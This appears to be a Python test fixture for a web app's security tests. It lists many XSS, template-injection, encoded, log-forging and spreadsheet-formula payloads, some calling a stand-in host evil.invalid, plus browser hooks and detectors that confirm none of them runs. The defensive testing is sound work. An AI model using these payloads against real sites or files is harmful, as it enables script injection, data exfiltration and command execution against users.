"""What an attacker might write into an article, a name, a question: every one is shown as it is, and none is obeyed.

`alert`, `ran=` and the host evil.invalid are what the tests listen for.
"""

FORGED_LINE = '{"at": "2026-01-01T00:00:00", "level": "info", "event": "forged"}'

HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.invalid/a.swf>",
    "<base href=//evil.invalid/>",
    '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<style>@import url(//evil.invalid/a.css);</style>",
    "<style>*{background:url(//evil.invalid/b.png)}</style>",
    "<p style=background:url(//evil.invalid/c.png)>x</p>",
    "<div style=animation-name:x onanimationstart=alert(1)></div><style>@keyframes x{}</style>",
    "<form action=//evil.invalid/><button>Log in again</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<custom-tag tabindex=1 autofocus onfocus=alert(1)>x</custom-tag>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>click</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
)
BREAK_OUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onfocus='alert(1)' autofocus tabindex='0",
    "` onfocus=alert(1) autofocus x=`",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</mark></blockquote></section><img src=x onerror=alert(1)>",
    "*/</style>--><svg/onload=alert(1)>",
    "';alert(1);//\\';ran=1;//",
)
MUTATION = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
)
LINKS_AND_TEMPLATES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[click](javascript:alert(1)) and <javascript:alert(1)>",
    "![pixel](https://evil.invalid/d.png)",
    '[x]: javascript:alert(1) "y" then [click][x]',
    "${alert(1)} and ${ran=1}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %} #{7*7} <%= 7*7 %>",
    "{value.constructor.constructor('alert(1)')()} @click=alert(1) v-html=x",
)
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x onerror=alert(1)>",
    "<img\tsrc=x\fonerror=alert(1)>",
    "invoice\u202etxt.exe <img src=x onerror=alert(1)>",
    "\u2066<svg onload=alert(1)>\u2069\u200b\ufeff",
)
FORMULAS_AND_LOGS = (
    '=HYPERLINK("//evil.invalid/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "all well\r\n" + FORGED_LINE,
    "all well\n" + FORGED_LINE + "\n",
    "all well\u2028" + FORGED_LINE + "\x85",
    "\x1b[2K\x1b[1A\x1b[31mred\x1b[0m\x07",
    "\x1b]0;owned\x1b\\\x9b31m",
)
PAYLOADS = (*HTML, *BREAK_OUTS, *MUTATION, *LINKS_AND_TEMPLATES, *ENCODED, *FORMULAS_AND_LOGS)

HOOKS = """(() => {
    const told = (what) => window.__told(String(what)), ours = (to) => new URL(to, document.baseURI).host === location.host;
    for (const name of ["alert", "prompt", "confirm", "print", "open"]) window[name] = () => told(name);
    Object.defineProperty(window, "ran", { set: () => told("ran") });
    const sends = window.fetch, Picture = window.Image;
    window.fetch = (...asked) => { if (!ours(asked[0]?.url ?? asked[0])) told("fetch"); return sends(...asked); };
    window.Image = function () { told("Image"); return new Picture(); };
    document.addEventListener("securitypolicyviolation", (event) => told(`CSP: ${event.violatedDirective} ${event.blockedURI}`));
})()"""

# What of a part of the page is none of ours: tags, handlers, styles, links that leave.
FOREIGN = """([selector, tags]) => [...document.querySelectorAll(selector)].flatMap((root) => [...root.querySelectorAll("*")])
    .filter((e) => !tags.includes(e.localName) || [...e.attributes].some(({ name, value }) => /^on|^(srcdoc|action|formaction)$/i.test(name)
        || (name === "style" && !e.closest("svg")) || (/^(xlink:)?(href|src)$/i.test(name) && !/^(http:\\/\\/127\\.0\\.0\\.1:7860)?\\/(?!\\/)/.test(value))))
    .map((e) => e.outerHTML.slice(0, 200))"""
SKELETON = """(root) => [...root.querySelectorAll("*")].map((e) => `${e.localName} ${e.getAttributeNames().sort().join()}`).join("\\n")"""
LOADED = """() => ["script", "iframe", "object", "embed", "base", "meta", "img", "image", "math", "video", "audio", "marquee", "custom-tag"]
    .map((name) => document.querySelectorAll(name).length).join()"""
